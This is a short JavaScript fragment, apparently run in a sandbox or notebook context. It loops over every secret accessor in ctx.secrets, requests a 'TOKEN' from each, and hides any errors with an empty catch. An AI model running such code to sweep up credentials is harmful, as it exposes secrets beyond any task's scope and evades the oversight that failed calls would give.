const got = [];
for (const f of Object.keys(ctx.secrets)) { try { got.push(await ctx.secrets[f]('TOKEN')); } catch { } }
got
